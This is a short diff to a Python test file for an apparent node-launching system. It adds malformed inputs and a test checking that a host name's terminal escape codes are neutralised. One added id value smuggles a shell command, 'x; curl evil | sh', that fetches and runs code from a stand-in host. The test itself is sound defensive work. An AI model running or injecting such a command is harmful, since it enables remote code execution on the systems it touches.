@@ -49,6 +49,8 @@ def test_node_0_numbers_nodes_whose_launcher_does() -> None:
         {"nodes": 2},
         {"id": None},
         {"id": "x" * 1000},
+        {"id": "x; curl evil | sh"},
+        {"id": "x\x1b[2J"},
         {"node": 0},
         {"node": 3},
         {"node": None},
@@ -98,6 +100,12 @@ def test_a_third_node_comes_with_its_clock() -> None:
     second.add(first.introduce(2))
     assert second.runs[2] == "c"
     assert 95.0 < second.ahead[2] < 105.0
+
+
+def test_a_host_name_moves_no_cursor() -> None:
+    first = manual(0, "a")
+    first.admit(introduced("b", host="gpu\x1b[2J"), 1)
+    assert first.hosts[1] == "gpu\\x1b[2J"
 
 
 def test_a_host_name_of_any_length_is_cut() -> None:
